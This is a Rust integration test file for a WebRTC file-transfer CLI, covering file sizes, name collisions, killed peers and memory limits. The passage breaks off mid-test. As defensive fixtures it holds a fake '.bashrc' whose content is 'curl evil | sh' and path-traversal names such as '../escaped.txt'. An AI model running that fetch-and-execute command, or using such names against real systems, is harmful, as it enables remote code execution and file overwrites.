//! File transfer end to end through real processes: `native-demo serve`, `native-demo send` and
//! `native-demo receive` over real WebRTC data channels (docs/file-transfer.md). A few tests
//! play one side with the library itself, to send what the CLI never would (a wrong hash, a
//! path in the name, a transfer cut short) or to check the exact messages the CLI sends.
//! Needs a non-loopback interface for ICE host candidates: run inside tests/scripts/in-netns.sh.
//!
//! `MIAOU_BIG_FILE_MIB` (default 64) sets the size of the streaming test's file; at every size
//! it asserts that both processes peaked well below the file's size in resident memory (see
//! [`flat_memory_bound_kib`]).

mod common;

use miaou_transport::{Bytes, Event, Transport, TransportConfig};
use sha2::{Digest, Sha256};
use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitStatus, Stdio};
use std::sync::{mpsc, Arc, Mutex};
use std::thread;
use std::time::{Duration, Instant};

const BIN: &str = env!("CARGO_BIN_EXE_native-demo");
const CHUNK: usize = 64 * 1024;
/// The largest message `send` and `receive` accept: one chunk plus 4 KiB for a control message
/// (docs/file-transfer.md).
const MAX_MESSAGE: usize = CHUNK + 4096;

/// A child process killed on drop; stdout lines arrive on a channel, stderr is collected.
struct Proc {
    name: String,
    child: Child,
    lines: mpsc::Receiver<String>,
    stderr: Arc<Mutex<String>>,
}

impl Drop for Proc {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Proc {
    fn stderr(&self) -> String {
        self.stderr.lock().unwrap().clone()
    }

    fn next_line(&self, timeout: Duration) -> String {
        match self.lines.recv_timeout(timeout) {
            Ok(line) => line,
            Err(e) => panic!(
                "no stdout line from {} within {timeout:?} ({e}); stderr:\n{}",
                self.name,
                self.stderr()
            ),
        }
    }

    /// Waits (at most 60 s) for a successful exit; fails with its stderr otherwise.
    fn expect_success(&mut self) {
        let status = self.wait_exit(Duration::from_secs(60));
        assert!(status.success(), "{status}:\n{}", self.stderr());
    }

    fn wait_exit(&mut self, timeout: Duration) -> ExitStatus {
        let deadline = Instant::now() + timeout;
        loop {
            if let Some(status) = self.child.try_wait().expect("try_wait") {
                // Let the reader threads drain the pipes.
                thread::sleep(Duration::from_millis(100));
                return status;
            }
            assert!(
                Instant::now() < deadline,
                "{} did not exit within {timeout:?}; stderr:\n{}",
                self.name,
                self.stderr()
            );
            thread::sleep(Duration::from_millis(20));
        }
    }

    /// Waits until stderr contains `needle`; returns the whole stderr.
    fn wait_stderr(&self, needle: &str, timeout: Duration) -> String {
        let deadline = Instant::now() + timeout;
        loop {
            let stderr = self.stderr();
            if stderr.contains(needle) {
                return stderr;
            }
            assert!(
                Instant::now() < deadline,
                "no {needle:?} from {} within {timeout:?}; stderr:\n{stderr}",
                self.name
            );
            thread::sleep(Duration::from_millis(20));
        }
    }

    /// The peer id the command logged on joining the room (`peer_id=…`).
    fn peer_id(&self) -> String {
        let stderr = self.wait_stderr("peer_id=", Duration::from_secs(60));
        let id = stderr.split("peer_id=").nth(1).unwrap();
        id.split_whitespace().next().unwrap().to_owned()
    }

    /// The `peak RSS <n> KiB` the command logs on exit.
    fn peak_rss_kib(&self) -> u64 {
        let stderr = self.stderr();
        stderr
            .lines()
            .find_map(|l| {
                l.split("peak RSS ")
                    .nth(1)?
                    .split(" KiB")
                    .next()?
                    .trim()
                    .parse()
                    .ok()
            })
            .unwrap_or_else(|| panic!("no `peak RSS` line from {}:\n{stderr}", self.name))
    }
}

fn spawn(name: &str, args: &[&str]) -> Proc {
    let mut child = Command::new(BIN)
        .args(args)
        .env("RUST_LOG", "info,webrtc=error,webrtc_ice=error,webrtc_sctp=error,webrtc_dtls=error,webrtc_mdns=error")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("native-demo starts");
    let lines = common::stdout_lines(child.stdout.take().expect("stdout piped"));
    let stderr = common::collect_stderr(child.stderr.take().expect("stderr piped"));
    Proc {
        name: name.to_owned(),
        child,
        lines,
        stderr,
    }
}

/// Starts the bridge on a free port and returns it with its WebSocket URL.
fn bridge() -> (Proc, String) {
    let serve = spawn("serve", &["serve", "--addr", "127.0.0.1:0"]);
    loop {
        let line = serve.next_line(Duration::from_secs(30));
        if let Some(url) = line.strip_prefix("signaling: ") {
            let url = url.to_owned();
            return (serve, url);
        }
    }
}

fn receive(ws: &str, room: &str, out: &Path, count: usize) -> Proc {
    let out = out.to_str().expect("UTF-8 temp path");
    spawn(
        "receive",
        &[
            "receive",
            "--signal",
            ws,
            "--room",
            room,
            "--out",
            out,
            "--count",
            &count.to_string(),
        ],
    )
}

fn send(ws: &str, room: &str, files: &[PathBuf]) -> Proc {
    send_with(ws, room, &["--wait-peers", "1"], files)
}

fn send_with(ws: &str, room: &str, options: &[&str], files: &[PathBuf]) -> Proc {
    let mut args = vec!["send", "--signal", ws, "--room", room];
    args.extend(options);
    args.extend(files.iter().map(|f| f.to_str().expect("UTF-8 temp path")));
    spawn("send", &args)
}

/// Asserts that `proc`'s piped stderr holds log lines only: no progress bar (its `ETA`, the
/// carriage returns that redraw it, ANSI escapes).
fn assert_no_progress_bar(proc: &Proc) {
    let stderr = proc.stderr();
    assert!(
        !stderr.contains("ETA"),
        "{}: progress bar on a pipe:\n{stderr}",
        proc.name
    );
    assert!(
        !stderr.contains('\r'),
        "{}: carriage return on a pipe:\n{stderr}",
        proc.name
    );
    assert!(
        !stderr.contains('\x1b'),
        "{}: ANSI escape on a pipe:\n{stderr}",
        proc.name
    );
}

/// Runs `sha256sum -c` in `dir` on `lines` (what `receive` printed); returns its stdout.
fn sha256sum_check(dir: &Path, lines: &[String]) -> String {
    let mut check = Command::new("sha256sum")
        .arg("-c")
        .current_dir(dir)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("sha256sum (coreutils) runs");
    let mut stdin = check.stdin.take().unwrap();
    for line in lines {
        writeln!(stdin, "{line}").unwrap();
    }
    drop(stdin);
    let output = check.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        output.status.success(),
        "sha256sum -c in {}: {stdout}{}",
        dir.display(),
        String::from_utf8_lossy(&output.stderr)
    );
    stdout
}

/// Deterministic pseudo-random bytes (SplitMix64), so a failure can be reproduced from the seed.
struct Noise(u64);

impl Noise {
    fn fill(&mut self, buf: &mut [u8]) {
        for chunk in buf.chunks_mut(8) {
            self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = self.0;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^= z >> 31;
            chunk.copy_from_slice(&z.to_le_bytes()[..chunk.len()]);
        }
    }

    fn bytes(&mut self, len: usize) -> Vec<u8> {
        let mut buf = vec![0; len];
        self.fill(&mut buf);
        buf
    }
}

fn seed() -> u64 {
    let seed = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos() as u64;
    eprintln!("noise seed: {seed}");
    seed
}

fn sha256_hex(data: &[u8]) -> String {
    hex::encode(Sha256::digest(data))
}

fn sha256_of_file(path: &Path) -> String {
    let mut file = std::fs::File::open(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let mut hasher = Sha256::new();
    let mut buf = vec![0u8; 1 << 20];
    loop {
        let n = file.read(&mut buf).unwrap();
        if n == 0 {
            return hex::encode(hasher.finalize());
        }
        hasher.update(&buf[..n]);
    }
}

fn names_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// A failed transfer leaves nothing in the output directory: neither a file nor its `.part`.
fn assert_nothing_kept(dir: &Path) {
    let names = names_in(dir);
    assert!(
        names.is_empty(),
        "neither a file nor its temporary is kept: {names:?}"
    );
}

#[test]
fn files_of_boundary_sizes_arrive_with_matching_sha256() {
    let (_bridge, ws) = bridge();
    let src = tempfile::tempdir().unwrap();
    let dst = tempfile::tempdir().unwrap();
    let mut noise = Noise(seed());
    let sizes = [
        ("empty.bin", 0),
        ("one.bin", 1),
        ("chunk.bin", CHUNK),
        ("chunk-plus-one.bin", CHUNK + 1),
        ("random.bin", 3 * 1024 * 1024 + 4321),
    ];
    let mut files = Vec::new();
    let mut expected = Vec::new();
    for (name, len) in sizes {
        let data = noise.bytes(len);
        let path = src.path().join(name);
        std::fs::write(&path, &data).unwrap();
        expected.push((format!("{}  {name}", sha256_hex(&data)), data));
        files.push(path);
    }

    let mut receiver = receive(&ws, "files", dst.path(), sizes.len());
    let mut sender = send(&ws, "files", &files);
    let started = Instant::now();
    let lines: Vec<String> = (0..sizes.len())
        .map(|_| receiver.next_line(Duration::from_secs(120)))
        .collect();
    eprintln!(
        "{} files ({} bytes) in {:?}",
        sizes.len(),
        sizes.iter().map(|s| s.1).sum::<usize>(),
        started.elapsed()
    );

    assert_eq!(
        lines,
        expected
            .iter()
            .map(|(line, _)| line.clone())
            .collect::<Vec<_>>(),
        "sha256sum lines, in send order"
    );
    for ((name, _), (_, data)) in sizes.iter().zip(&expected) {
        let got = std::fs::read(dst.path().join(name)).unwrap();
        assert!(
            got == *data,
            "{name}: received bytes differ from the source"
        );
    }
    let sent = sender.wait_exit(Duration::from_secs(60));
    assert!(sent.success(), "send exits 0; stderr:\n{}", sender.stderr());
    let received = receiver.wait_exit(Duration::from_secs(60));
    assert!(
        received.success(),
        "receive exits 0 after --count files; stderr:\n{}",
        receiver.stderr()
    );
    let mut names: Vec<String> = sizes.iter().map(|s| s.0.to_owned()).collect();
    names.sort();
    assert_eq!(
        names_in(dst.path()),
        names,
        "exactly the files, no temporary file left"
    );
    // The sender knows: each file was verified by the receiver, end to end.
    let receiver_id = receiver.peer_id();
    let stderr = sender.stderr();
    for (name, _) in sizes {
        assert!(
            stderr
                .lines()
                .any(|l| l.contains(&format!("verified by {receiver_id}")) && l.contains(name)),
            "no `verified by {receiver_id}` for {name}:\n{stderr}"
        );
    }
    sha256sum_check(dst.path(), &lines);
    assert_no_progress_bar(&sender);
    assert_no_progress_bar(&receiver);
}

/// The other half of [`assert_no_progress_bar`]: on a terminal the bar is drawn. `script`
/// (util-linux) runs `receive` on a pseudo-terminal and copies what it shows to our pipe.
#[test]
fn the_progress_bar_is_drawn_on_a_terminal() {
    if Command::new("script").arg("--version").output().is_err() {
        eprintln!("skipped: no `script` (util-linux) to provide a terminal");
        return;
    }
    let (_bridge, ws) = bridge();
    let src = tempfile::tempdir().unwrap();
    let dst = tempfile::tempdir().unwrap();
    let data = Noise(seed()).bytes(8 * 1024 * 1024);
    let path = src.path().join("shown.bin");
    std::fs::write(&path, &data).unwrap();
    let command = format!(
        "{BIN} receive --signal {ws} --room pty --out {}",
        dst.path().to_str().unwrap()
    );
    let mut child = Command::new("script")
        .args(["--quiet", "--return", "--command", &command, "/dev/null"])
        .env("RUST_LOG", "info,webrtc=error")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("script starts");
    let lines = common::stdout_lines(child.stdout.take().unwrap());
    let stderr = common::collect_stderr(child.stderr.take().unwrap());
    let mut terminal = Proc {
        name: "receive on a terminal".into(),
        child,
        lines,
        stderr,
    };
    let mut sender = send(&ws, "pty", &[path]);
    assert!(
        sender.wait_exit(Duration::from_secs(120)).success(),
        "{}",
        sender.stderr()
    );
    assert!(terminal.wait_exit(Duration::from_secs(60)).success());
    let shown: Vec<String> = terminal.lines.try_iter().collect();
    let shown = shown.join("\n");
    assert!(
        shown.contains(&format!("{}  shown.bin", sha256_hex(&data))),
        "{shown}"
    );
    assert!(
        shown.contains("ETA") && shown.contains("shown.bin "),
        "no progress bar:\n{shown}"
    );
}

#[test]
fn the_same_base_name_twice_from_one_sender_keeps_both_and_sha256sum_checks_them() {
    let (_bridge, ws) = bridge();
    let src = tempfile::tempdir().unwrap();
    let dst = tempfile::tempdir().unwrap();
    let mut files = Vec::new();
    let mut expected = Vec::new();
    for (dir, data, written) in [
        ("a", b"first x".as_slice(), "x"),
        ("b", b"second x", "x (1)"),
    ] {
        std::fs::create_dir(src.path().join(dir)).unwrap();
        let path = src.path().join(dir).join("x");
        std::fs::write(&path, data).unwrap();
        files.push(path);
        expected.push(format!("{}  {written}", sha256_hex(data)));
    }
    let mut receiver = receive(&ws, "same-name", dst.path(), 2);
    let mut sender = send(&ws, "same-name", &files);
    let lines: Vec<String> = (0..2)
        .map(|_| receiver.next_line(Duration::from_secs(60)))
        .collect();
    assert_eq!(lines, expected, "the second x is written as `x (1)`");
    sender.expect_success();
    receiver.expect_success();
    assert_eq!(std::fs::read(dst.path().join("x")).unwrap(), b"first x");
    assert_eq!(
        std::fs::read(dst.path().join("x (1)")).unwrap(),
        b"second x"
    );
    assert_eq!(names_in(dst.path()), ["x", "x (1)"]);
    assert_eq!(sha256sum_check(dst.path(), &lines), "x: OK\nx (1): OK\n");
}

#[test]
fn existing_files_are_untouched_and_two_senders_of_one_name_both_land() {
    let (_bridge, ws) = bridge();
    let dst = tempfile::tempdir().unwrap();
    std::fs::write(dst.path().join(".bashrc"), b"# my shell").unwrap();
    std::fs::write(dst.path().join("report.txt"), b"my report").unwrap();
    let (src1, src2) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let write = |dir: &Path, name: &str, data: &[u8]| {
        let path = dir.join(name);
        std::fs::write(&path, data).unwrap();
        path
    };
    let one = [
        write(src1.path(), ".bashrc", b"curl evil | sh"),
        write(src1.path(), "report.txt", b"report from one"),
    ];
    let two = [write(src2.path(), "report.txt", b"report from two")];
    let mut receiver = receive(&ws, "collide", dst.path(), 3);
    // Each sender may also meet the other sender, which declines its files (a sender takes
    // none; senders_that_meet_first_wait_for_a_receiver covers that case).
    let mut sender1 = send(&ws, "collide", &one);
    let mut sender2 = send(&ws, "collide", &two);
    let mut lines: Vec<String> = (0..3)
        .map(|_| receiver.next_line(Duration::from_secs(60)))
        .collect();
    for sender in [&mut sender1, &mut sender2] {
        sender.expect_success();
    }
    receiver.expect_success();
    assert_eq!(
        std::fs::read(dst.path().join(".bashrc")).unwrap(),
        b"# my shell"
    );
    assert_eq!(
        std::fs::read(dst.path().join("report.txt")).unwrap(),
        b"my report"
    );
    assert_eq!(
        std::fs::read(dst.path().join(".bashrc (1)")).unwrap(),
        b"curl evil | sh"
    );
    let mut reports = [
        std::fs::read(dst.path().join("report (1).txt")).unwrap(),
        std::fs::read(dst.path().join("report (2).txt")).unwrap(),
    ];
    reports.sort();
    assert_eq!(
        reports,
        [b"report from one".to_vec(), b"report from two".to_vec()]
    );
    assert_eq!(
        names_in(dst.path()),
        [
            ".bashrc",
            ".bashrc (1)",
            "report (1).txt",
            "report (2).txt",
            "report.txt"
        ],
        "no temporary file left"
    );
    lines.sort();
    let mut printed: Vec<&str> = lines
        .iter()
        .map(|l| l.split_once("  ").unwrap().1)
        .collect();
    printed.sort();
    assert_eq!(printed, [".bashrc (1)", "report (1).txt", "report (2).txt"]);
    sha256sum_check(dst.path(), &lines);
}

#[test]
fn one_send_delivers_to_two_receivers_and_waits_for_both() {
    let (_bridge, ws) = bridge();
    let src = tempfile::tempdir().unwrap();
    let (dst1, dst2) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let data = Noise(seed()).bytes(2 * CHUNK + 99);
    let path = src.path().join("both.bin");
    std::fs::write(&path, &data).unwrap();
    let mut receivers = [
        receive(&ws, "two", dst1.path(), 1),
        receive(&ws, "two", dst2.path(), 1),
    ];
    let mut sender = send_with(&ws, "two", &["--wait-peers", "2"], &[path]);
    let line = format!("{}  both.bin", sha256_hex(&data));
    for receiver in &receivers {
        assert_eq!(receiver.next_line(Duration::from_secs(60)), line);
    }
    sender.expect_success();
    for receiver in &mut receivers {
        receiver.expect_success();
        let id = receiver.peer_id();
        assert!(
            sender.stderr().contains(&format!("verified by {id}")),
            "{id}:\n{}",
            sender.stderr()
        );
    }
    for dst in [&dst1, &dst2] {
        assert!(std::fs::read(dst.path().join("both.bin")).unwrap() == data);
    }
}

/// Two senders that meet before any receiver is there: with `--wait-peers 1` each is
/// satisfied by the other, which declines the file (it is a sender). They must wait for a peer
/// that takes files, then deliver, instead of giving up on "reached nobody".
#[test]
fn senders_that_meet_first_wait_for_a_receiver() {
    let (_bridge, ws) = bridge();
    let src = tempfile::tempdir().unwrap();
    let dst = tempfile::tempdir().unwrap();
    let (a, b) = (Noise(seed()).bytes(CHUNK + 5), Noise(seed() + 1).bytes(7));
    let (path_a, path_b) = (src.path().join("a.bin"), src.path().join("b.bin"));
    std::fs::write(&path_a, &a).unwrap();
    std::fs::write(&path_b, &b).unwrap();
    let mut senders = [
        send(&ws, "senders-first", &[path_a]),
        send(&ws, "senders-first", &[path_b]),
    ];
    // Both have met and declined each other's first file before the receiver comes.
    for sender in &senders {
        let declined = || sender.stderr().contains("declined by");
        let deadline = std::time::Instant::now() + Duration::from_secs(30);
        while !declined() {
            assert!(std::time::Instant::now() < deadline, "{}", sender.stderr());
            std::thread::sleep(Duration::from_millis(20));
        }
    }
    let receiver = receive(&ws, "senders-first", dst.path(), 2);
    let mut lines = vec![
        receiver.next_line(Duration::from_secs(60)),
        receiver.next_line(Duration::from_secs(60)),
    ];
    lines.sort();
    let mut want = vec![
        format!("{}  a.bin", sha256_hex(&a)),
        format!("{}  b.bin", sha256_hex(&b)),
    ];
    want.sort();
    assert_eq!(lines, want);
    for sender in &mut senders {
        sender.expect_success();
    }
}

/// The only peer the first file went to leaves without a word (a sender that finished first
/// looks like this): the file reached no receiver, so `send` waits for one and sends it anew.
#[test]
fn a_first_file_that_reached_nobody_goes_to_a_receiver_that_comes_later() {
    let (_bridge, ws) = bridge();
    let src = tempfile::tempdir().unwrap();
    let dst = tempfile::tempdir().unwrap();
    let data = Noise(seed()).bytes(CHUNK + 3);
    let path = src.path().join("again.bin");
    std::fs::write(&path, &data).unwrap();
    let rt = runtime();
    let passer_by = library_peer(&rt, &ws, "nobody");
    let mut sender = send(&ws, "nobody", &[path]);
    // It gets the first file-start, says nothing and leaves.
    let first = rt.block_on(recv_n(&passer_by, 1));
    assert!(first[0]
        .as_text()
        .unwrap()
        .contains(r#""type":"file-start""#));
    rt.block_on(passer_by.close()).ok();
    drop(passer_by);
    let receiver = receive(&ws, "nobody", dst.path(), 1);
    assert_eq!(
        receiver.next_line(Duration::from_secs(60)),
        format!("{}  again.bin", sha256_hex(&data))
    );
    sender.expect_success();
    assert!(
        sender.stderr().contains("no target took the file"),
        "{}",
        sender.stderr()
    );
}

#[test]
fn send_fails_naming_the_receiver_that_rejects_the_file() {
    let (_bridge, ws) = bridge();
    let src = tempfile::tempdir().unwrap();
    let dst = tempfile::tempdir().unwrap();
    // A control character is legal in a Linux file name; the receiver's name rule refuses it.
    let path = src.path().join("bad\x01name");
    std::fs::write(&path, b"refused").unwrap();
    let mut receiver = receive(&ws, "nack", dst.path(), 1);
    let mut sender = send(&ws, "nack", &[path]);
    let receiver_id = receiver.peer_id();
    let sent = sender.wait_exit(Duration::from_secs(60));
    let stderr = sender.stderr();
    assert!(
        !sent.success(),
        "send must fail when the receiver rejects; stderr:\n{stderr}"
    );
    assert!(
        stderr.contains(&format!(
            "error: {receiver_id} rejected bad\\u{{1}}name (transfer 1): bad name \"bad\\u{{1}}name\": control character in name"
        )),
        "{stderr}"
    );
    assert!(!receiver.wait_exit(Duration::from_secs(60)).success());
    assert!(
        receiver.stderr().contains("control character in name"),
        "{}",
        receiver.stderr()
    );
    assert_nothing_kept(dst.path());
}

#[test]
fn send_fails_naming_the_receiver_killed_mid_transfer() {
    let (_bridge, ws) = bridge();
    let src = tempfile::tempdir().unwrap();
    let dst = tempfile::tempdir().unwrap();
    let path = src.path().join("cut.bin");
    std::fs::write(&path, Noise(seed()).bytes(64 * 1024 * 1024)).unwrap();
    let mut receiver = receive(&ws, "killed", dst.path(), 1);
    let mut sender = send(&ws, "killed", &[path]);
    let receiver_id = receiver.peer_id();
    receiver.wait_stderr("receiving", Duration::from_secs(60));
    thread::sleep(Duration::from_millis(300));
    receiver.child.kill().unwrap();
    let sent = sender.wait_exit(Duration::from_secs(60));
    let stderr = sender.stderr();
    assert!(!sent.success(), "send must fail; stderr:\n{stderr}");
    let error = stderr
        .lines()
        .find(|l| l.starts_with("error: "))
        .unwrap_or_else(|| panic!("{stderr}"));
    assert!(
        error.contains(&receiver_id),
        "the error names the receiver: {error}"
    );
    assert!(!stderr.contains("verified by"), "{stderr}");
}

/// SIGTERM (`kill`, `timeout`, systemd) stops `receive` as Ctrl-C does: the partial file is
/// deleted, the sender is told why and names the receiver, and the exit status is non-zero.
#[test]
fn receive_stopped_by_sigterm_or_ctrl_c_keeps_nothing_and_tells_the_sender() {
    let (_bridge, ws) = bridge();
    let src = tempfile::tempdir().unwrap();
    let path = src.path().join("stopped.bin");
    std::fs::write(&path, Noise(seed()).bytes(64 * 1024 * 1024)).unwrap();
    for (signal, says) in [("-TERM", "terminated (SIGTERM)"), ("-INT", "interrupted")] {
        let dst = tempfile::tempdir().unwrap();
        let room = format!("stopped{signal}");
        let mut receiver = receive(&ws, &room, dst.path(), 1);
        let mut sender = send(&ws, &room, std::slice::from_ref(&path));
        let receiver_id = receiver.peer_id();
        receiver.wait_stderr("receiving", Duration::from_secs(60));
        thread::sleep(Duration::from_millis(300));
        let pid = receiver.child.id().to_string();
        assert!(Command::new("kill")
            .args([signal, &pid])
            .status()
            .unwrap()
            .success());
        let status = receiver.wait_exit(Duration::from_secs(30));
        let stderr = receiver.stderr();
        assert!(!status.success(), "{signal}: {stderr}");
        assert!(
            stderr.contains(&format!("error: {says}")),
            "{signal}: {stderr}"
        );
        assert_nothing_kept(dst.path());
        let sent = sender.wait_exit(Duration::from_secs(60));
        let stderr = sender.stderr();
        assert!(!sent.success(), "{signal}: send must fail:\n{stderr}");
        assert!(
            stderr.contains(&receiver_id) && stderr.contains(&format!("receiver stopped: {says}")),
            "{signal}: the sender names the receiver and why it stopped:\n{stderr}"
        );
    }
}

#[test]
fn receive_fails_when_the_sender_is_killed_mid_transfer() {
    let (_bridge, ws) = bridge();
    let src = tempfile::tempdir().unwrap();
    let dst = tempfile::tempdir().unwrap();
    let path = src.path().join("orphan.bin");
    std::fs::write(&path, Noise(seed()).bytes(32 * 1024 * 1024)).unwrap();
    let mut receiver = receive(&ws, "orphan", dst.path(), 1);
    let mut sender = send(&ws, "orphan", &[path]);
    receiver.wait_stderr("receiving", Duration::from_secs(60));
    thread::sleep(Duration::from_millis(300));
    sender.child.kill().unwrap();
    let status = receiver.wait_exit(Duration::from_secs(60));
    let stderr = receiver.stderr();
    assert!(!status.success(), "{stderr}");
    assert!(
        stderr.contains("peer disconnected mid-file: transfer 1 (orphan.bin)"),
        "{stderr}"
    );
    assert_nothing_kept(dst.path());
}

/// Streams one big file (MIAOU_BIG_FILE_MIB, default 64) and reports both processes' peak RSS.
#[test]
fn big_file_streams_with_flat_memory() {
    let mib: u64 = std::env::var("MIAOU_BIG_FILE_MIB")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(64);
    let size = mib * 1024 * 1024;
    let src = tempfile::tempdir().unwrap();
    let dst = tempfile::tempdir().unwrap();
    let path = src.path().join("big.bin");
    let source_sha = {
        let mut noise = Noise(seed());
        let mut file = std::io::BufWriter::new(std::fs::File::create(&path).unwrap());
        let mut hasher = Sha256::new();
        let mut buf = vec![0u8; 1 << 20];
        for _ in 0..mib {
            noise.fill(&mut buf);
            hasher.update(&buf);
            file.write_all(&buf).unwrap();
        }
        file.flush().unwrap();
        hex::encode(hasher.finalize())
    };

    let (_bridge, ws) = bridge();
    let mut receiver = receive(&ws, "big", dst.path(), 1);
    let mut sender = send(&ws, "big", &[path]);
    let started = Instant::now();
    // Generous: an unoptimised build moves a few MiB/s.
    let timeout = Duration::from_secs(120 + mib * 3);
    let line = receiver.next_line(timeout);
    let elapsed = started.elapsed();
    assert_eq!(line, format!("{source_sha}  big.bin"));
    assert!(
        sender.wait_exit(Duration::from_secs(60)).success(),
        "send exits 0; stderr:\n{}",
        sender.stderr()
    );
    assert!(
        receiver.wait_exit(Duration::from_secs(60)).success(),
        "receive exits 0; stderr:\n{}",
        receiver.stderr()
    );
    assert_eq!(
        std::fs::metadata(dst.path().join("big.bin")).unwrap().len(),
        size
    );
    assert_eq!(
        sha256_of_file(&dst.path().join("big.bin")),
        source_sha,
        "file on disk equals the source"
    );

    let (send_rss, receive_rss) = (sender.peak_rss_kib(), receiver.peak_rss_kib());
    eprintln!(
        "{mib} MiB in {:.1} s ({:.1} MiB/s); peak RSS: send {:.1} MiB, receive {:.1} MiB",
        elapsed.as_secs_f64(),
        mib as f64 / elapsed.as_secs_f64(),
        send_rss as f64 / 1024.0,
        receive_rss as f64 / 1024.0
    );
    let bound = flat_memory_bound_kib();
    assert!(
        send_rss < bound,
        "send peaked at {send_rss} KiB for a {mib} MiB file (bound {bound} KiB)"
    );
    assert!(
        receive_rss < bound,
        "receive peaked at {receive_rss} KiB for a {mib} MiB file (bound {bound} KiB)"
    );
}

/// What `send` and `receive` may peak at in resident memory whatever the file size, KiB: 48 MiB
/// (a debug build idles near 20 MiB; the receiver queues at most 64 messages of 68 KiB, the
/// sender's channel buffers 1 MiB). The default 64 MiB file is larger than this, so a command
/// that held the file in memory fails the check.
fn flat_memory_bound_kib() -> u64 {
    48 * 1024
}

// ---- one side played by the library ------------------------------------------------------------

enum Out {
    Text(String),
    Binary(Vec<u8>),
}

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap()
}

/// Joins `room`, waits for one peer, sends `messages` to it, waits (at most 30 s) until it got
/// `acks` text messages back, then closes (losslessly, when the peer is still there). Returns
/// the text messages it got.
async fn raw_send(ws: &str, room: &str, messages: Vec<Out>, acks: usize) -> Vec<String> {
    let transport = Transport::connect(TransportConfig::builder(ws, room).build().unwrap())
        .await
        .unwrap();
    let peer = loop {
        match tokio::time::timeout(Duration::from_secs(60), transport.next_event()).await {
            Ok(Some(Event::PeerConnected(peer))) => break peer,
            Ok(Some(_)) => {}
            other => panic!("no peer connected: {other:?}"),
        }
    };
    for message in messages {
        match message {
            Out::Text(text) => transport.send_text(&peer, &text).await.unwrap(),
            Out::Binary(data) => transport.send(&peer, Bytes::from(data)).await.unwrap(),
        }
    }
    let mut texts = Vec::new();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    while texts.len() < acks {
        match tokio::time::timeout_at(deadline, transport.recv()).await {
            Ok(Some(message)) if message.text && !is_accepted(&message) => {
                texts.push(message.as_text().unwrap().to_owned())
            }
            Ok(Some(_)) => {}
            _ => break,
        }
    }
    // A receive that rejected the transfer exits at once and may not acknowledge our close.
    if let Err(e) = transport.close().await {
        eprintln!("raw sender: close: {e}");
    }
    texts
}

/// Whether `message` is a receiver's `file-accepted` (its answer to a `file-start`).
fn is_accepted(message: &miaou_transport::Message) -> bool {
    message
        .as_text()
        .is_some_and(|t| t.contains(r#""type":"file-accepted""#))
}

/// A library `Transport` in `room`, playing the other side by hand.
fn library_peer(rt: &tokio::runtime::Runtime, ws: &str, room: &str) -> Transport {
    let config = TransportConfig::builder(ws, room).build().unwrap();
    rt.block_on(Transport::connect(config)).unwrap()
}

/// Parses an acknowledgement.
fn json(text: &str) -> serde_json::Value {
    serde_json::from_str(text).unwrap_or_else(|e| panic!("{text}: {e}"))
}

fn start(id: u32, name: &str, size: usize) -> Out {
    Out::Text(format!(
        r#"{{"type":"file-start","id":{id},"name":{},"size":{size}}}"#,
        serde_json::to_string(name).unwrap()
    ))
}

fn end(id: u32, sha256: &str) -> Out {
    Out::Text(format!(
        r#"{{"type":"file-end","id":{id},"sha256":"{sha256}"}}"#
    ))
}

#[test]
fn a_path_in_the_name_is_reduced_to_its_base_name() {
    let (_bridge, ws) = bridge();
    let dst = tempfile::tempdir().unwrap();
    let inbox = dst.path().join("inbox");
    let mut receiver = receive(&ws, "names", &inbox, 2);
    let data = b"not where you think".to_vec();
    let sha = sha256_hex(&data);
    let acks = runtime().block_on(raw_send(
        &ws,
        "names",
        vec![
            Out::Text("plain chat is ignored by receive".into()),
            start(1, "../escaped.txt", data.len()),
            Out::Binary(data.clone()),
            end(1, &sha),
            start(2, "C:\\Windows\\win.ini", data.len()),
            Out::Binary(data.clone()),
            end(2, &sha),
        ],
        2,
    ));
    let acks: Vec<serde_json::Value> = acks.iter().map(|a| json(a)).collect();
    assert_eq!(
        acks,
        [
            serde_json::json!({"type": "file-received", "id": 1, "sha256": sha}),
            serde_json::json!({"type": "file-received", "id": 2, "sha256": sha}),
        ],
        "each verified file is acknowledged to its sender"
    );
    assert_eq!(
        receiver.next_line(Duration::from_secs(60)),
        format!("{sha}  escaped.txt")
    );
    assert_eq!(
        receiver.next_line(Duration::from_secs(60)),
        format!("{sha}  win.ini")
    );
    receiver.expect_success();
    assert_eq!(
        names_in(&inbox),
        vec!["escaped.txt".to_owned(), "win.ini".to_owned()]
    );
    assert_eq!(
        names_in(dst.path()),
        vec!["inbox".to_owned()],
        "nothing written outside --out"
    );
    assert!(receiver
        .stderr()
        .contains("chat: plain chat is ignored by receive"));
}

#[test]
fn hash_mismatch_fails_receive_and_keeps_nothing() {
    let (_bridge, ws) = bridge();
    let dst = tempfile::tempdir().unwrap();
    let mut receiver = receive(&ws, "bad-hash", dst.path(), 1);
    let data = vec![7u8; CHUNK + 10];
    let acks = runtime().block_on(raw_send(
        &ws,
        "bad-hash",
        vec![
            start(1, "tampered.bin", data.len()),
